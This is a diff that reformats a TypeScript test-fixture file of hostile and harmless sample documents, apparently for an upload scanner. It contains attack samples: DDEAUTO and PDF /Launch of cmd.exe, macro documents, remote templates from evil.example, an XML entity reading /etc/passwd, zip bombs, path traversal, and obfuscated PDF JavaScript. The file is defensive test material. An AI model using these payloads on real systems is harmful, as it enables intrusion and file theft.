@@ -9,16 +9,36 @@ export type Harmless = readonly [what: string, bytes: Buffer | (() => Buffer), n
 
 const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
 const types = (more = '') => `<Types><Override PartName="/word/document.xml" ContentType="${word}"/>${more}</Types>`
-const docx = (more: Record<string, string | Buffer>, typesMore = ''): Buffer => zip({ '[Content_Types].xml': types(typesMore), 'word/document.xml': '<document>Our welcome policy</document>', ...more })
+const docx = (more: Record<string, string | Buffer>, typesMore = ''): Buffer =>
+  zip({
+    '[Content_Types].xml': types(typesMore),
+    'word/document.xml': '<document>Our welcome policy</document>',
+    ...more,
+  })
 const relationship = (type: string, target: string) =>
   `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
-const ole = (stream: string) => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(500), Buffer.from(stream, 'utf16le'), Buffer.alloc(500)])
-const odt = (more: Record<string, string>) => zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'META-INF/manifest.xml': '<manifest/>', 'content.xml': '<office/>', ...more })
+const ole = (stream: string) =>
+  Buffer.concat([
+    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
+    Buffer.alloc(500),
+    Buffer.from(stream, 'utf16le'),
+    Buffer.alloc(500),
+  ])
+const odt = (more: Record<string, string>) =>
+  zip({
+    mimetype: 'application/vnd.oasis.opendocument.text',
+    'META-INF/manifest.xml': '<manifest/>',
+    'content.xml': '<office/>',
+    ...more,
+  })
 
 /** The size that the table and the entry state of its last part is another one. */
 function lying(about: 'smaller' | 'larger'): Buffer {
   const bytes = docx({ 'word/media/image1.bin': 'a'.repeat(5_000_000) })
-  const [entry, line] = [bytes.lastIndexOf('PK\x03\x04', undefined, 'latin1'), bytes.lastIndexOf('PK\x01\x02', undefined, 'latin1')]
+  const [entry, line] = [
+    bytes.lastIndexOf('PK\x03\x04', undefined, 'latin1'),
+    bytes.lastIndexOf('PK\x01\x02', undefined, 'latin1'),
+  ]
   const size = about === 'smaller' ? 50 : 6_000_000
   bytes.writeUInt32LE(size, entry + 22)
   bytes.writeUInt32LE(size, line + 24)
@@ -51,47 +71,148 @@ function symbolicLink(): Buffer {
 const bomb = (megabytes: number) => docx({ 'word/media/image1.bin': Buffer.alloc(megabytes * 1024 * 1024) })
 
 const pages = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', aPage(4), packed('', '0 0 10 10 re f')] as const
-const pdf = (catalogue: string, more: readonly (string | Buffer)[] = []) => pdfOf([`<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`, ...pages, ...more])
+const pdf = (catalogue: string, more: readonly (string | Buffer)[] = []) =>
+  pdfOf([`<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`, ...pages, ...more])
 /** Objects 6 and on, as a PDF packs several of them in one stream. */
 const objectStream = (object: string, about = '') => packed(`/Type /ObjStm /N 1 /First 4 ${about}`, `6 0 ${object}`)
 const ascii85 = (bytes: Buffer): string => {
   let text = ''
   for (let at = 0; at < bytes.length; at += 4) {
     let value = Buffer.concat([bytes.subarray(at, at + 4), Buffer.alloc(4)]).readUInt32BE(0)
-    const letters = Array.from({ length: 5 }, () => { const letter = String.fromCharCode(33 + value % 85); value = Math.floor(value / 85); return letter }).reverse().join('')
+    const letters = Array.from({ length: 5 }, () => {
+      const letter = String.fromCharCode(33 + (value % 85))
+      value = Math.floor(value / 85)
+      return letter
+    })
+      .reverse()
+      .join('')
     text += letters.slice(0, Math.min(4, bytes.length - at) + 1)
   }
   return `${text}~>`
 }
 const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
-const inTwoFilters = (): Buffer => Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode] >>\nstream\n${ascii85(deflateSync(`6 0 ${script}`))}\nendstream`)
+const inTwoFilters = (): Buffer =>
+  Buffer.from(
+    `<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode] >>\nstream\n${ascii85(deflateSync(`6 0 ${script}`))}\nendstream`,
+  )
 
 export const hostile: readonly Hostile[] = [
-  ['an SVG behind a long comment', Buffer.from(`<!-- ${'x'.repeat(40_000)} --><svg xmlns="http://www.w3.org/2000/svg"/>`), 'drawing.txt', 'svg'],
+  [
+    'an SVG behind a long comment',
+    Buffer.from(`<!-- ${'x'.repeat(40_000)} --><svg xmlns="http://www.w3.org/2000/svg"/>`),
+    'drawing.txt',
+    'svg',
+  ],
   ['a web page named as a table', sample.html, 'visits.csv', 'html'],
-  ['a RAR named as a photograph', Buffer.from('Rar!\x1a\x07\x01\x00'.padEnd(200, '\0'), 'latin1'), 'photo.jpg', 'archive'],
+  [
+    'a RAR named as a photograph',
+    Buffer.from('Rar!\x1a\x07\x01\x00'.padEnd(200, '\0'), 'latin1'),
+    'photo.jpg',
+    'archive',
+  ],
   ['a 7z', Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(100)]), 'photos.7z', 'archive'],
   ['a GZ', Buffer.concat([Buffer.from('1f8b0800', 'hex'), Buffer.alloc(100)]), 'visits.csv.gz', 'archive'],
   ['a program named as a document', sample.program, 'policy.docx', 'executable'],
   ['a Windows script', Buffer.from('MsgBox "hello"'), 'list.vbs', 'disagrees'],
 
-  ['a DOCM', zip({ '[Content_Types].xml': types().replace(word, 'application/vnd.ms-word.document.macroEnabled.main+xml'), 'word/document.xml': '<d/>' }), 'policy.docm', 'macro'],
-  ['a DOCM named as a DOCX', zip({ '[Content_Types].xml': types().replace(word, 'application/vnd.ms-word.document.macroEnabled.main+xml'), 'word/document.xml': '<d/>' }), 'policy.docx', 'macro'],
+  [
+    'a DOCM',
+    zip({
+      '[Content_Types].xml': types().replace(word, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
+      'word/document.xml': '<d/>',
+    }),
+    'policy.docm',
+    'macro',
+  ],
+  [
+    'a DOCM named as a DOCX',
+    zip({
+      '[Content_Types].xml': types().replace(word, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
+      'word/document.xml': '<d/>',
+    }),
+    'policy.docx',
+    'macro',
+  ],
   ['macros under another name', docx({ 'word/media/image1.bin': ole('_VBA_PROJECT') }), 'policy.docx', 'macro'],
-  ['macros by their relationship', docx({ 'word/_rels/document.xml.rels': relationship('vbaProject', 'media/a.bin') }), 'policy.docx', 'macro'],
+  [
+    'macros by their relationship',
+    docx({ 'word/_rels/document.xml.rels': relationship('vbaProject', 'media/a.bin') }),
+    'policy.docx',
+    'macro',
+  ],
   ['macros whose entry goes by two names', twoNames, 'policy.docx', 'disagrees'],
-  ['macros in a document in a document', docx({ 'word/embeddings/a.docx': docx({ 'word/vbaProject.bin': 'macro' }) }), 'policy.docx', 'macro'],
-  ['a field that starts a program', docx({ 'word/footer.xml': '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>' }), 'policy.docx', 'macro'],
-  ['an ODT that runs a macro when it opens', odt({ 'settings.xml': '<script:event-listener xlink:href="vnd.sun.star.script:Standard.Module1.Main"/>' }), 'policy.odt', 'macro'],
-  ['a program packed in a document', docx({ 'word/embeddings/oleObject1.bin': sample.program }), 'policy.docx', 'embedded'],
-  ['a file packed by Office in a document', docx({ 'word/embeddings/oleObject1.bin': ole('\x01Ole10Native') }), 'policy.docx', 'embedded'],
-  ['an archive packed in a document', docx({ 'word/media/image1.png': zip({ 'a.exe': 'x' }) }), 'policy.docx', 'archive'],
-  ['documents in documents in documents', docx({ 'word/embeddings/a.docx': docx({ 'word/embeddings/b.docx': docx({}) }) }), 'policy.docx', 'embedded'],
-  ['a template from the internet', docx({ 'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'https://evil.example/a.dotm') }), 'policy.docx', 'elsewhere'],
-  ['an object from the internet', docx({ 'word/_rels/document.xml.rels': relationship('oleObject', 'mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html') }), 'policy.docx', 'elsewhere'],
+  [
+    'macros in a document in a document',
+    docx({ 'word/embeddings/a.docx': docx({ 'word/vbaProject.bin': 'macro' }) }),
+    'policy.docx',
+    'macro',
+  ],
+  [
+    'a field that starts a program',
+    docx({ 'word/footer.xml': '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>' }),
+    'policy.docx',
+    'macro',
+  ],
+  [
+    'an ODT that runs a macro when it opens',
+    odt({ 'settings.xml': '<script:event-listener xlink:href="vnd.sun.star.script:Standard.Module1.Main"/>' }),
+    'policy.odt',
+    'macro',
+  ],
+  [
+    'a program packed in a document',
+    docx({ 'word/embeddings/oleObject1.bin': sample.program }),
+    'policy.docx',
+    'embedded',
+  ],
+  [
+    'a file packed by Office in a document',
+    docx({ 'word/embeddings/oleObject1.bin': ole('\x01Ole10Native') }),
+    'policy.docx',
+    'embedded',
+  ],
+  [
+    'an archive packed in a document',
+    docx({ 'word/media/image1.png': zip({ 'a.exe': 'x' }) }),
+    'policy.docx',
+    'archive',
+  ],
+  [
+    'documents in documents in documents',
+    docx({ 'word/embeddings/a.docx': docx({ 'word/embeddings/b.docx': docx({}) }) }),
+    'policy.docx',
+    'embedded',
+  ],
+  [
+    'a template from the internet',
+    docx({ 'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'https://evil.example/a.dotm') }),
+    'policy.docx',
+    'elsewhere',
+  ],
+  [
+    'an object from the internet',
+    docx({
+      'word/_rels/document.xml.rels': relationship(
+        'oleObject',
+        'mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html',
+      ),
+    }),
+    'policy.docx',
+    'elsewhere',
+  ],
 
-  ['an entity that grows', docx({ 'word/styles.xml': '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>' }), 'policy.docx', 'bomb'],
-  ['an entity that reads a file', docx({ 'word/styles.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }), 'policy.docx', 'bomb'],
+  [
+    'an entity that grows',
+    docx({ 'word/styles.xml': '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>' }),
+    'policy.docx',
+    'bomb',
+  ],
+  [
+    'an entity that reads a file',
+    docx({ 'word/styles.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
+    'policy.docx',
+    'bomb',
+  ],
   ['a zip bomb', () => bomb(150), 'policy.docx', 'bomb'],
   ['a zip whose table says less than is in it', () => lying('smaller'), 'policy.docx', 'bomb'],
   ['a zip whose table says more than is in it', () => lying('larger'), 'policy.docx', 'damaged'],
@@ -99,44 +220,159 @@ export const hostile: readonly Hostile[] = [
   ['a path that leads out', docx({ '../../outside.xml': '<a/>' }), 'policy.docx', 'damaged'],
   ['a path with a drive', docx({ 'C:\\outside.xml': '<a/>' }), 'policy.docx', 'damaged'],
   ['a symbolic link', symbolicLink, 'policy.docx', 'damaged'],
-  ['a zip with something after it', Buffer.concat([docx({}), Buffer.from('<script>1</script>')]), 'policy.docx', 'disagrees'],
+  [
+    'a zip with something after it',
+    Buffer.concat([docx({}), Buffer.from('<script>1</script>')]),
+    'policy.docx',
+    'disagrees',
+  ],
 
-  ['a PDF with a script packed in an object stream', pdf('/OpenAction 6 0 R', [objectStream(script)]), 'policy.pdf', 'script'],
-  ['the same by another spelling', pdf('/OpenAction 6 0 R', [objectStream('<< /S /J#61vaScript /#4aS (app.alert(1)) >>')]), 'policy.pdf', 'script'],
-  ['the same without saying what it is', pdf('/OpenAction 6 0 R', [objectStream(script).toString('latin1').replace('/Type /ObjStm', '/Type 9 0 R    ')].map(text => Buffer.from(text, 'latin1'))), 'policy.pdf', 'script'],
+  [
+    'a PDF with a script packed in an object stream',
+    pdf('/OpenAction 6 0 R', [objectStream(script)]),
+    'policy.pdf',
+    'script',
+  ],
+  [
+    'the same by another spelling',
+    pdf('/OpenAction 6 0 R', [objectStream('<< /S /J#61vaScript /#4aS (app.alert(1)) >>')]),
+    'policy.pdf',
+    'script',
+  ],
+  [
+    'the same without saying what it is',
+    pdf(
+      '/OpenAction 6 0 R',
+      [objectStream(script).toString('latin1').replace('/Type /ObjStm', '/Type 9 0 R    ')].map(text =>
+        Buffer.from(text, 'latin1'),
+      ),
+    ),
+    'policy.pdf',
+    'script',
+  ],
   ['a PDF with a script in two filters', pdf('/OpenAction 6 0 R', [inTwoFilters()]), 'policy.pdf', 'script'],
   ['a script behind a comment', pdf('/OpenAction << /S % here\n /JavaScript /JS (1) >>'), 'policy.pdf', 'script'],
   ['a script named elsewhere', pdf('/OpenAction << /S 5 0 R /J 1 >>', ['/JavaScript']), 'policy.pdf', 'script'],
-  ['a page that starts a script', pdf('', ['<< /Type /Annot /A << /Type /Action /S/JavaScript/JS 4 0 R >> >>']), 'policy.pdf', 'script'],
-  ['a PDF that starts a program, packed', pdf('/OpenAction 6 0 R', [objectStream('<< /S /Launch /F (cmd.exe) >>')]), 'policy.pdf', 'script'],
-  ['a form that runs scripts', pdf('/AcroForm << /XFA 5 0 R /Fields [] >>', [packed('', '<xdp:xdp/>')]), 'form.pdf', 'script'],
-  ['a PDF that carries a file', pdf('/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>', ['<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>', packed('/Type /EmbeddedFile', 'MZ')]), 'policy.pdf', 'attachment'],
-  ['a PDF that carries a file, packed', pdf('/Names 6 0 R', [objectStream('<< /EmbeddedFiles 7 0 R >>')]), 'policy.pdf', 'attachment'],
-  ['objects in a filter that we cannot open', pdf('', [Buffer.from('<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 4 >>\nstream\nabcd\nendstream')]), 'policy.pdf', 'opaque'],
+  [
+    'a page that starts a script',
+    pdf('', ['<< /Type /Annot /A << /Type /Action /S/JavaScript/JS 4 0 R >> >>']),
+    'policy.pdf',
+    'script',
+  ],
+  [
+    'a PDF that starts a program, packed',
+    pdf('/OpenAction 6 0 R', [objectStream('<< /S /Launch /F (cmd.exe) >>')]),
+    'policy.pdf',
+    'script',
+  ],
+  [
+    'a form that runs scripts',
+    pdf('/AcroForm << /XFA 5 0 R /Fields [] >>', [packed('', '<xdp:xdp/>')]),
+    'form.pdf',
+    'script',
+  ],
+  [
+    'a PDF that carries a file',
+    pdf('/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>', [
+      '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
+      packed('/Type /EmbeddedFile', 'MZ'),
+    ]),
+    'policy.pdf',
+    'attachment',
+  ],
+  [
+    'a PDF that carries a file, packed',
+    pdf('/Names 6 0 R', [objectStream('<< /EmbeddedFiles 7 0 R >>')]),
+    'policy.pdf',
+    'attachment',
+  ],
+  [
+    'objects in a filter that we cannot open',
+    pdf('', [Buffer.from('<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 4 >>\nstream\nabcd\nendstream')]),
+    'policy.pdf',
+    'opaque',
+  ],
   ['a PDF bomb', () => pdf('', [packed('', Buffer.alloc(150 * 1024 * 1024))]), 'policy.pdf', 'bomb'],
-  ['a PDF with a password in a packed table', pdf('', [packed('/Type /XRef /Encrypt 7 0 R', 'x')]), 'policy.pdf', 'encrypted'],
-  ['a PDF without pages', pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']), 'policy.pdf', 'damaged'],
-  ['a PDF whose pages go round in a circle', pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']), 'policy.pdf', 'damaged'],
+  [
+    'a PDF with a password in a packed table',
+    pdf('', [packed('/Type /XRef /Encrypt 7 0 R', 'x')]),
+    'policy.pdf',
+    'encrypted',
+  ],
+  [
+    'a PDF without pages',
+    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
+    'policy.pdf',
+    'damaged',
+  ],
+  [
+    'a PDF whose pages go round in a circle',
+    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
+    'policy.pdf',
+    'damaged',
+  ],
   ['only the name of a PDF', Buffer.from('%PDF-1.7\nHello\n%%EOF'), 'policy.pdf', 'damaged'],
 
   ['a PDF that is a zip too', Buffer.concat([pdf(''), sample.archive]), 'policy.pdf', 'disagrees'],
   ['a recording that is a zip too', Buffer.concat([sample.mp3, sample.archive]), 'story.mp3', 'disagrees'],
   ['a film that is a PDF too', Buffer.concat([sample.mp4, sample.pdf]), 'tour.mp4', 'disagrees'],
-  ['a text that is a PDF too', Buffer.concat([Buffer.from('Hello\n'), Buffer.from(sample.pdf.toString('latin1').replace(/[^\x20-\x7e\n]/g, ' '))]), 'notes.txt', 'disagrees'],
+  [
+    'a text that is a PDF too',
+    Buffer.concat([Buffer.from('Hello\n'), Buffer.from(sample.pdf.toString('latin1').replace(/[^\x20-\x7e\n]/g, ' '))]),
+    'notes.txt',
+    'disagrees',
+  ],
   ['a HEIC named as a JPEG', sample.heic, 'photo.jpg', 'heic'],
 ]
 
 export const harmless: readonly Harmless[] = [
-  ['a document with a link to the internet', docx({ 'word/_rels/document.xml.rels': relationship('hyperlink', 'https://library.example/') }), 'policy.docx'],
-  ['a document with the council\'s own template', docx({ 'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'file:///\\\\server\\templates\\Council.dotx') }), 'policy.docx'],
-  ['a document with a chart and its table', docx({ 'word/embeddings/Microsoft_Excel_Sheet.xlsx': sample.xlsx }), 'figures.docx'],
+  [
+    'a document with a link to the internet',
+    docx({ 'word/_rels/document.xml.rels': relationship('hyperlink', 'https://library.example/') }),
+    'policy.docx',
+  ],
+  [
+    "a document with the council's own template",
+    docx({
+      'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'file:///\\\\server\\templates\\Council.dotx'),
+    }),
+    'policy.docx',
+  ],
+  [
+    'a document with a chart and its table',
+    docx({ 'word/embeddings/Microsoft_Excel_Sheet.xlsx': sample.xlsx }),
+    'figures.docx',
+  ],
   ['a document with an old equation', docx({ 'word/embeddings/oleObject1.bin': ole('Equation Native') }), 'maths.docx'],
-  ['a document that speaks of macros', docx({ 'word/footer.xml': '<w:t>Never enable a vbaProject or DDEAUTO</w:t>' }), 'advice.docx'],
-  ['a document with much white space', () => docx({ 'word/media/image1.bin': Buffer.alloc(60 * 1024 * 1024) }), 'poster.docx'],
-  ['an ODT of an old program', odt({ 'META-INF/other.xml': '<!DOCTYPE manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest/>' }), 'policy.odt'],
+  [
+    'a document that speaks of macros',
+    docx({ 'word/footer.xml': '<w:t>Never enable a vbaProject or DDEAUTO</w:t>' }),
+    'advice.docx',
+  ],
+  [
+    'a document with much white space',
+    () => docx({ 'word/media/image1.bin': Buffer.alloc(60 * 1024 * 1024) }),
+    'poster.docx',
+  ],
+  [
+    'an ODT of an old program',
+    odt({
+      'META-INF/other.xml':
+        '<!DOCTYPE manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest/>',
+    }),
+    'policy.odt',
+  ],
   ['a PDF with its objects packed', pdf('', [objectStream('<< /Title (How we welcome people) >>')]), 'policy.pdf'],
-  ['a PDF with a link', pdf('', ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://library.example) >> >>']), 'policy.pdf'],
-  ['a PDF that speaks of scripts in a packed text', pdf('', [packed('', 'BT (Turn off /JavaScript and /Launch in your reader) Tj ET')]), 'advice.pdf'],
+  [
+    'a PDF with a link',
+    pdf('', ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://library.example) >> >>']),
+    'policy.pdf',
+  ],
+  [
+    'a PDF that speaks of scripts in a packed text',
+    pdf('', [packed('', 'BT (Turn off /JavaScript and /Launch in your reader) Tj ET')]),
+    'advice.pdf',
+  ],
   ['a PDF form', pdf('/AcroForm << /Fields [] >>'), 'form.pdf'],
   ['a PDF with an attachment only in its words', pdf('/Lang (The EmbeddedFiles are gone)'), 'policy.pdf'],
   ['a PDF with a line after its end', Buffer.concat([pdf(''), Buffer.from('\r\n\r\n')]), 'policy.pdf'],
